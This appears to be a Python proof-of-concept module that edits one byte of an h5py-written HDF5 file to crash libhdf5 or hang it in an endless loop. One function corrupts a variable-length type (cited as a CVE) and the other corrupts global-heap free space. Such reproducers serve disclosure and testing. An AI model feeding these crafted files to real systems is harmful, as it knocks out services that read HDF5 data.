"""Changes of one byte that end libhdf5 (1.14 and 2.0): it crashes, or loops for ever.

Both are in text of variable length, as h5py writes lists of names into attributes.
"""

import struct


def null_in_a_variable_length_type(content):
    """The kind of a variable-length type becomes one that there is not [CVE-2026-17574]."""
    changed = bytearray(content)
    at = changed.index(b"\x19\x01\x01\0", changed.index(b"layer_names\0"))
    changed[at + 1] = 0xFF
    return bytes(changed)


def loop_in_the_global_heap(content):
    """The free space of the first global heap becomes smaller than its own header."""
    changed = bytearray(content)
    begin = changed.index(b"GCOL")
    end = begin + struct.unpack_from("<Q", changed, begin + 8)[0]
    at = begin + 16
    while at < end:
        number, _, _, nbytes = struct.unpack_from("<HHIQ", changed, at)
        if number == 0:
            struct.pack_into("<Q", changed, at + 8, nbytes & 0xFF)
            return bytes(changed)
        at += 16 + (nbytes + 7) // 8 * 8
    raise ValueError("the heap has no free space")
